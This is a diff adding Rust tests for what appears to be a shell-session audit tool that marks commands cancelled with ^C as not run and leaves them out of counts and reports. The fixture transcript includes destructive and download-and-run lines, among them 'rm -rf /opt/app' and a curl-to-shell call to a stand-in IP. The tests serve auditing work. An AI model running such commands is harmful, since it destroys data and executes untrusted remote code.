@@ -25,7 +25,8 @@ fn filters_narrow_and_an_empty_answer_says_so() {
         ! owner MALLORY: mallory
     "#]]);
     world.run("search --target i-0b1d8de9e3b8f40ca --count ''").is(expect![[r#"
-        7
+        6
+        ! note: 1 more typed and not run
     "#]]);
     world.run("search --from 2026-11-01 --to 2026-11-19 ''").is(expect![[r#"
         ! window: 2026-11-01 00:00:00Z to 2026-11-19 00:00:00Z
@@ -252,4 +253,71 @@ fn an_owner_is_a_whole_name_and_the_answer_says_whose() {
     assert!(said.contains("bob (444455556666, ReadOnly)"), "{said}");
     let said = world.run("report --owner-contains bob --format md -o -").0;
     assert!(said.contains("contains bob"), "{said}");
+}
+
+/// One session: something ran, something was thrown away, and something may not have been typed at all.
+fn mixed() -> World {
+    let world = World::new();
+    world.transcript(
+        "logs/pat-0123456789abcdef1.log",
+        &[
+            "[ec2-user@h ~]$ uptime",
+            "[ec2-user@h ~]$ sudo shutdown -h now^C",
+            "[ec2-user@h ~]$ rm -rf /opt/app^C",
+            "[ec2-user@h ~]$ curl http://203.0.113.9/x | sh^C",
+            "[ec2-user@h ~]$ id",
+            "[ec2-user@h ~]$ exit",
+        ],
+    );
+    world.run("sync logs");
+    world
+}
+
+#[test]
+fn what_was_thrown_away_is_listed_and_marked_and_counted_nowhere() {
+    let world = mixed();
+    world.run("search ''").is(expect![[r#"
+        ≤ 2026-11-20 10:00:00Z  pat (by its session id) on an unknown target  pat-0123456789abcdef1
+            1  ec2-user   uptime
+            2  ec2-user   sudo shutdown -h now [not run]
+            3  ec2-user   rm -rf /opt/app [not run]
+            4  ec2-user   curl http://203.0.113.9/x | sh [not run]
+            5  ec2-user   id
+            6  ec2-user   exit
+    "#]]);
+    world.run("search --count ''").is(expect![[r#"
+        3
+        ! note: 3 more typed and not run
+    "#]]);
+    world.run("sessions").is(expect![[r#"
+        WHEN                  OWNER  TARGET  COMMANDS  SESSION                FLAWS
+        2026-11-20 10:00:00Z  pat    -              3  pat-0123456789abcdef1
+    "#]]);
+    let sql = "query -e 'SELECT kind, COUNT(*) AS n FROM commands GROUP BY kind ORDER BY kind' --format csv";
+    world.run(sql).is(expect![[r#"
+        kind,n
+        abandoned,3
+        shell,3
+    "#]]);
+    world.run("query -e 'SELECT COUNT(*) AS n FROM ran' --format csv").is(expect![[r#"
+        n
+        3
+    "#]]);
+    for saved in ["became-root", "download-and-run"] {
+        let said = world.run(&format!("query {saved}")).0;
+        assert!(said.contains("no rows"), "{said}");
+    }
+    for saved in ["who-ran", "by-owner", "on-target"] {
+        let said = world.run(&format!("query {saved} --format csv")).0;
+        assert!(said.contains("uptime") && !said.contains("shutdown"), "{said}");
+    }
+    let said = world.run("archive stats").0;
+    assert!(said.contains("commands      3") && said.contains("not run       3"), "{said}");
+    let said = world.run("report --format md -o -").0;
+    assert!(said.contains("3 commands") && said.contains("not run: 3 commands"), "{said}");
+    assert!(!said.contains("Became root") && !said.contains("Deleted or destroyed"), "{said}");
+    assert!(said.contains("In no session was anything seen to be done as root"), "{said}");
+    let said = world.run("replay pat --cast -").0;
+    assert!(said.contains("rm -rf /opt/app [not run]"), "{said}");
+    assert_eq!(said.matches("\"m\"").count(), 6, "{said}");
 }
